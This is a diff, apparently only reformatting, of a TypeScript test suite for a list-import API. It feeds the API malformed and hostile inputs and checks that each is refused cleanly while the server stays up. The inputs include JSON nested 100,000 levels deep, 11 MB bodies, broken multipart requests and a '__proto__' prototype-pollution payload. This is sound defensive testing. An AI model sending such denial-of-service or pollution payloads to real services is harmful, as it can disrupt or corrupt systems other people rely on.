+    outcome: { loaded: [stored({ price: '9'.repeat(400) + '.5' })] },
+  },
+  {
+    name: 'negative zero',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file(HEADER, line({ qty: '-0', price: '-0.0' })),
+    outcome: { loaded: [stored({ qty: 0, price: 0 })] },
+  },
 
   // ── dates, times, zones ───────────────────────────────────────────────────────────────
-  { name: 'the date 2023-02-30', kind: 'upload', content: () => file(HEADER, line({ day: '2023-02-30' })), outcome: { reject: /"day" "2023-02-30" is not a real calendar date/ } },
-  { name: 'the year 0000', kind: 'upload', content: () => file(HEADER, line({ day: '0000-01-01' })), outcome: { reject: /is not a real calendar date/ } },
-  { name: 'a leap second 23:59:60', kind: 'upload', content: () => file(HEADER, line({ at: '2016-12-31T23:59:60Z' })), outcome: { reject: /impossible time of day/, remediation: /leap seconds/ } },
+  {
+    name: 'the date 2023-02-30',
+    kind: 'upload',
+    content: () => file(HEADER, line({ day: '2023-02-30' })),
+    outcome: { reject: /"day" "2023-02-30" is not a real calendar date/ },
+  },
+  {
+    name: 'the year 0000',
+    kind: 'upload',
+    content: () => file(HEADER, line({ day: '0000-01-01' })),
+    outcome: { reject: /is not a real calendar date/ },
+  },
+  {
+    name: 'a leap second 23:59:60',
+    kind: 'upload',
+    content: () => file(HEADER, line({ at: '2016-12-31T23:59:60Z' })),
+    outcome: { reject: /impossible time of day/, remediation: /leap seconds/ },
+  },
   {
     name: 'time zones +14:00 and -12:00 (the extremes in use)',
     kind: 'upload',
     list: 'empty',
-    content: () => file(HEADER, line({ code: 'KIRIBATI', at: '2024-01-01T00:00:00+14:00' }), line({ code: 'BAKER', at: '2024-01-01T00:00:00-12:00' })),
-    outcome: { loaded: [stored({ code: 'BAKER', at: '2024-01-01T12:00:00.000Z' }), stored({ code: 'KIRIBATI', at: '2023-12-31T10:00:00.000Z' })] },
+    content: () =>
+      file(
+        HEADER,
+        line({ code: 'KIRIBATI', at: '2024-01-01T00:00:00+14:00' }),
+        line({ code: 'BAKER', at: '2024-01-01T00:00:00-12:00' }),
+      ),
+    outcome: {
+      loaded: [
+        stored({ code: 'BAKER', at: '2024-01-01T12:00:00.000Z' }),
+        stored({ code: 'KIRIBATI', at: '2023-12-31T10:00:00.000Z' }),
+      ],
+    },
   },
-  { name: 'the time zone +25:00', kind: 'upload', content: () => file(HEADER, line({ at: '2024-01-01T00:00:00+25:00' })), outcome: { reject: /impossible time zone offset/ } },
+  {
+    name: 'the time zone +25:00',
+    kind: 'upload',
+    content: () => file(HEADER, line({ at: '2024-01-01T00:00:00+25:00' })),
+    outcome: { reject: /impossible time zone offset/ },
+  },
 
   // ── multipart requests ────────────────────────────────────────────────────────────────
-  { name: 'the quote character as delimiter', kind: 'upload', fields: { delimiter: '"' }, content: () => file(HEADER, line()), outcome: { status: 400, message: /delimiter cannot be the quote/ } },
-  { name: 'an oversized multipart field (1 MB mode)', kind: 'upload', fields: { mode: 'upsert' + 'x'.repeat(MiB) }, content: () => file(HEADER, line()), outcome: { status: 400, message: /mode must be one of/ } },
-  { name: 'an errorThreshold of 1e309', kind: 'upload', fields: { errorThreshold: '1e309' }, content: () => file(HEADER, line()), outcome: { status: 400, message: /errorThreshold/ } },
+  {
+    name: 'the quote character as delimiter',
+    kind: 'upload',
+    fields: { delimiter: '"' },
+    content: () => file(HEADER, line()),
+    outcome: { status: 400, message: /delimiter cannot be the quote/ },
+  },
+  {
+    name: 'an oversized multipart field (1 MB mode)',
+    kind: 'upload',
+    fields: { mode: 'upsert' + 'x'.repeat(MiB) },
+    content: () => file(HEADER, line()),
+    outcome: { status: 400, message: /mode must be one of/ },
+  },
+  {
+    name: 'an errorThreshold of 1e309',
+    kind: 'upload',
+    fields: { errorThreshold: '1e309' },
+    content: () => file(HEADER, line()),
+    outcome: { status: 400, message: /errorThreshold/ },
+  },
   {
     name: 'a multipart body without a boundary',
     kind: 'request',
-    send: (ctx) => rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, { body: multipartBody([{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }], 'b0und'), contentType: 'multipart/form-data' }),
+    send: (ctx) =>
+      rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
+        body: multipartBody([{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }], 'b0und'),
+        contentType: 'multipart/form-data',
+      }),
     outcome: { status: 400, message: /boundary/ },
   },
   {
@@ -412,7 +782,11 @@ const CORPUS: HostileCase[] = [
     kind: 'request',
     send: (ctx) =>
       rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
-        body: multipartBody([{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }], 'b0und', false).slice(0, -30),
+        body: multipartBody(
+          [{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }],
+          'b0und',
+          false,
+        ).slice(0, -30),
         contentType: 'multipart/form-data; boundary=b0und',
       }),
     outcome: { status: 400, message: /interrupted|malformed|no file/ },
@@ -422,7 +796,13 @@ const CORPUS: HostileCase[] = [
     kind: 'request',
     send: (ctx) =>
       rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
-        body: multipartBody([...Array.from({ length: 200 }, (_, i) => ({ name: `junk${i}`, value: 'x' })), { name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }], 'b0und'),
+        body: multipartBody(
+          [
+            ...Array.from({ length: 200 }, (_, i) => ({ name: `junk${i}`, value: 'x' })),
+            { name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' },
+          ],
+          'b0und',
+        ),
         contentType: 'multipart/form-data; boundary=b0und',
       }),
     outcome: { status: 400, message: /field|part|dataFile/ },
@@ -430,7 +810,8 @@ const CORPUS: HostileCase[] = [
   {
     name: 'JSON sent to the upload route',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', `/api/v1/lists/${ctx.list.id}/importJobs`, { json: { dataFile: file(HEADER, line()) } }),
+    send: (ctx) =>
+      ctx.api.request('POST', `/api/v1/lists/${ctx.list.id}/importJobs`, { json: { dataFile: file(HEADER, line()) } }),
     outcome: { status: 415, message: /multipart\/form-data/ },
   },
 
@@ -438,13 +819,21 @@ const CORPUS: HostileCase[] = [
   {
     name: '100,000 nested arrays as the columns of POST /api/v1/lists',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: `{"name":"deep","workspaceId":"${ctx.workspaceId}","columns":${deepArray(100_000)}}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: `{"name":"deep","workspaceId":"${ctx.workspaceId}","columns":${deepArray(100_000)}}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /columns/ },
   },
   {
     name: '100,000 nested objects in an ignored property of POST /api/v1/lists',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: `{"workspaceId":"${ctx.workspaceId}","extra":${deepObject(100_000)},"columns":[]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: `{"workspaceId":"${ctx.workspaceId}","extra":${deepObject(100_000)},"columns":[]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /name/ },
   },
   {
@@ -464,7 +853,11 @@ const CORPUS: HostileCase[] = [
   {
     name: 'an oversized JSON body (11 MB, declared length)',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: JSON.stringify(validListBody(ctx, { description: 'x'.repeat(11 * MiB) })), headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: JSON.stringify(validListBody(ctx, { description: 'x'.repeat(11 * MiB) })),
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 413, message: /larger than 10 MB/ },
   },
   {
@@ -481,19 +874,31 @@ const CORPUS: HostileCase[] = [
   {
     name: 'an oversized text body (11 MB) to PUT …/state',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/state`, { body: 'deployed'.repeat((11 * MiB) / 8), headers: { 'content-type': 'text/plain' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/state`, {
+        body: 'deployed'.repeat((11 * MiB) / 8),
+        headers: { 'content-type': 'text/plain' },
+      }),
     outcome: { status: 413, message: /larger than/ },
   },
   {
     name: 'text/plain sent to a JSON route',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: JSON.stringify(validListBody(ctx)), headers: { 'content-type': 'text/plain' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: JSON.stringify(validListBody(ctx)),
+        headers: { 'content-type': 'text/plain' },
+      }),
     outcome: { status: 415, message: /JSON/ },
   },
   {
     name: 'a form-urlencoded body sent to a JSON route',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: `name=x&workspaceId=${ctx.workspaceId}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: `name=x&workspaceId=${ctx.workspaceId}`,
+        headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      }),
     outcome: { status: 415, message: /JSON/ },
   },
   {
@@ -509,37 +914,61 @@ const CORPUS: HostileCase[] = [
   {
     name: 'a truncated JSON body',
     kind: 'request',
-    send: (ctx) => ctx.api.request('POST', '/api/v1/lists', { body: JSON.stringify(validListBody(ctx)).slice(0, -5), headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('POST', '/api/v1/lists', {
+        body: JSON.stringify(validListBody(ctx)).slice(0, -5),
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /not valid JSON/ },
   },
   {
     name: 'a __proto__ key in a row edit',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { body: `{"items":[{"code":"P1","__proto__":{"note":"polluted"},"note":"x"}]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
+        body: `{"items":[{"code":"P1","__proto__":{"note":"polluted"},"note":"x"}]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /__proto__/ },
   },
   {
     name: 'row edit: 100,000 nested arrays as a value',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { body: `{"items":[{"code":"P1","note":${deepArray(100_000)}}]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
+        body: `{"items":[{"code":"P1","note":${deepArray(100_000)}}]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /note/ },
   },
   {
     name: 'row edit: integer 2^63 as a JSON number',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { body: `{"items":[{"code":"P1","qty":9223372036854775808}]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
+        body: `{"items":[{"code":"P1","qty":9223372036854775808}]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /too large|exactly/ },
   },
   {
     name: 'row edit: integer 2^53 + 1 as a JSON number (would round to 2^53)',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { body: `{"items":[{"code":"P1","qty":9007199254740993}]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
+        body: `{"items":[{"code":"P1","qty":9007199254740993}]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /qty/ },
   },
   {
     name: 'row edit: the number 1e999999 as a JSON number',
     kind: 'request',
-    send: (ctx) => ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { body: `{"items":[{"code":"P1","price":1e999999}]}`, headers: { 'content-type': 'application/json' } }),
+    send: (ctx) =>
+      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
+        body: `{"items":[{"code":"P1","price":1e999999}]}`,
+        headers: { 'content-type': 'application/json' },
+      }),
     outcome: { status: 400, message: /price/ },
   },
 ];
@@ -552,7 +981,8 @@ function sha256(content: Uint8Array): string {
   return createHash('sha256').update(content).digest('hex');
 }
 
-const byCode = (rows: Row[]) => [...rows].sort((a, b) => (String(a.code) < String(b.code) ? -1 : String(a.code) > String(b.code) ? 1 : 0));
+const byCode = (rows: Row[]) =>
+  [...rows].sort((a, b) => (String(a.code) < String(b.code) ? -1 : String(a.code) > String(b.code) ? 1 : 0));
 
 beforeAll(async () => {
   admin = await adminApi();
@@ -603,12 +1033,19 @@ describe('hostile and malformed input: a clear message, nothing loaded, the serv
       }
       await hostile.outcome.check?.(response, ctx);
     } else {
-      const response = await admin.upload(list.id, hostile.content(), hostile.fields ?? {}, hostile.fileName ?? 'hostile.csv');
+      const response = await admin.upload(
+        list.id,
+        hostile.content(),
+        hostile.fields ?? {},
+        hostile.fileName ?? 'hostile.csv',
+      );
       const outcome = hostile.outcome;
       refusedByRequest = response.status >= 400;
       if (hostile.probeWhileRunning && response.status === 202) {
         const slowest = await slowestHealthAnswer(4_000);
-        expect.soft(slowest, `the server stopped answering /api/health for ${slowest} ms while the job ran`).toBeLessThan(2_000);
+        expect
+          .soft(slowest, `the server stopped answering /api/health for ${slowest} ms while the job ran`)
+          .toBeLessThan(2_000);
       }
       if ('loaded' in outcome) {
         expect(response.status, response.text.slice(0, 1000)).toBe(202);
